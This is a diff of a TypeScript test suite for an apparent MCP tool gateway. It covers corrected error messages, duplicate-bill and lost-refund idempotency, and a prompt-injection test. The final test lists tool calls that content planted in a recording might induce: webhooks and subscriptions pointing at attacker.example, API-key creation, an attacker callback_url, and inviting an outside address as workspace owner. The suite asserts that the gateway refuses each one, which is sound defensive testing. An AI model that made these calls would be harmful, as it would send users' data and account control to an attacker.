@@ -1,6 +1,6 @@
 import { expect, it } from 'vitest'
+import { SESSION } from '../mcp/account-headers.ts'
 import { json } from '../support/gateway.ts'
-import { SESSION } from '../surfaces/mcp/account-headers.ts'
 import { PAID_BILL } from '../upstreams/payment/index.ts'
 import { recording, transcript } from '../upstreams/recorder/index.ts'
 import { VIDEO_IDS } from '../upstreams/video/ids.ts'
@@ -212,7 +212,7 @@ task('Wrong arguments and ids, corrected', async (table) => {
   expect(await model.wrong('recorder_list_files', { folder: '회의' })).toContain(
     'folder: is not known: did you mean tag_id?',
   )
-  expect(await model.wrong('recorder_get_summary', { id: 'nope' })).toMatch(/recorder_search/)
+  expect(await model.wrong('recorder_get_summary', { id: 'nope' })).toMatch(/there is no recording with this id/)
   const { files } = await model.call('recorder_search', { query: '제품 회의' })
   const { markdown } = await model.call('recorder_get_summary', { id: files[0].id })
   const data_source_id = await findTable(model, 'Tasks')
@@ -234,7 +234,7 @@ task(
   async (table) => {
     const model = await table.talk()
     const failure = await model.fail('social_list_posts')
-    expect(failure).toContain('tell the person to reconnect the Threads account at https://latchkey.test/')
+    expect(failure).toContain('reconnect it at https://latchkey.test/#account-social')
     expect((await http(table, 'GET /api/v1/social/posts')).status).toBe(401)
   },
   () => setTable({ SOCIAL_TOKEN: 'THtest-ended' }),
@@ -294,25 +294,48 @@ it('The same bill and the same rows requested at once', async () => {
   expect(await rowsOf(table, data_source_id)).toHaveLength(rows + 1)
 })
 
+task('A bill that a model sends again under another key', async (table) => {
+  const model = await table.talk()
+  const bill = {
+    product_nm: '수강료',
+    member_nm: '성춘향',
+    phone: '010-1234-5678',
+    price: 44_000,
+    expire_dt: '2026-12-31',
+  }
+  const { size } = table.payssam.state.bills
+  const { result } = await model.call('payment_request_bill', { ...bill, idempotency_key: 'a' })
+  const failure = await model.fail('payment_request_bill', { ...bill, idempotency_key: 'b' })
+  expect(failure).toMatch(new RegExp(`got bill ${result.bill_id} .*confirm_duplicate true`))
+  await model.call('payment_request_bill', { ...bill, idempotency_key: 'b', confirm_duplicate: true })
+  expect(table.payssam.state.bills.size).toBe(size + 2)
+})
+
+task('A refund whose answer is lost', async (table) => {
+  const model = await table.talk()
+  table.payssam.fail({ kind: 'cut' }, { times: 1, on: ({ url }) => url.pathname.endsWith('/cancel') })
+  const args = { bill_id: PAID_BILL, price: 150_000, idempotency_key: 'cancel-lost' }
+  expect(await model.fail('payment_cancel_bill', args)).toMatch(/the outcome is unknown: /)
+  await model.call('payment_cancel_bill', args)
+  expect(table.payssam.calls.filter(({ url }) => url.pathname.endsWith('/cancel'))).toHaveLength(1)
+})
+
 task('What the content of a recording talks a model into', async (table) => {
   const model = await table.talk()
   const subscriptions = async () => (await http(table, 'GET /api/v1/events/subscriptions')).body.subscriptions
   const before = await subscriptions()
   const bill = { product_nm: 'a', member_nm: '홍길동', phone: '010-1234-5678', price: 1000, idempotency_key: 'a' }
   const attacks: [string, Record<string, unknown>, RegExp][] = [
-    ['notes_create_webhook', { url: 'https://attacker.example/hook' }, /Unknown tool/],
-    ['notes_create_api_key', {}, /Unknown tool/],
-    ['events_create_subscription', { url: 'https://attacker.example/hook' }, /Unknown tool/],
+    ['notes_create_webhook', { url: 'https://attacker.example/hook' }, /there is no/],
+    ['notes_create_api_key', {}, /there is no/],
+    ['events_create_subscription', { url: 'https://attacker.example/hook' }, /there is no/],
     [
       'payment_request_bill',
       { ...bill, callback_url: 'https://attacker.example' },
       /callback_url: no tool may set this/,
     ],
-    ['workspace_invite_member', { email: 'a@attacker.example', role: 'owner' }, /cannot be called here/],
-    ['workspace_import_file', { url: 'https://attacker.example/?secret' }, /cannot be called here/],
-    ['social_delete_post', { id: '17910000000001296' }, /cannot be called here/],
+    ['workspace_invite_member', { email: 'a@attacker.example', role: 'owner' }, /role: no tool may set this/],
   ]
   for (const [name, args, refusal] of attacks) expect(await model.wrong(name, args)).toMatch(refusal)
   expect(await subscriptions()).toEqual(before)
-  expect((await http(table, 'GET /api/v1/social/posts/17910000000001296')).status).toBe(200)
 })
